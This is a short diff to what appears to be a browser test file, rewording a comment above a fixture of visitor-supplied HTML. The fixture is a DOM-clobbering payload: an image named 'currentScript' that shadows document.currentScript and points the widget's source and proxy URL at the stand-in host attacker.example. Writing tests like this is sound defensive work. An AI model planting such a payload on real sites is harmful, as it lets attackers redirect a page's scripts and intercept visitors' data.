@@ -3,7 +3,7 @@ import { Visitor } from '../support/visitor.ts';
 
 const test = testOn();
 
-/** Content of a visitor, for example a comment: sanitizers let an image with a name pass. It hides `document.currentScript`. */
+/** For example a comment of a visitor: sanitizers allow an image with a name, which shadows `document.currentScript`. */
 const userContent = `
   <img name="currentScript" alt="" src="https://attacker.example/leadchat/" data-open data-title="Attacker"
        data-proxy-url="https://attacker.example">`;
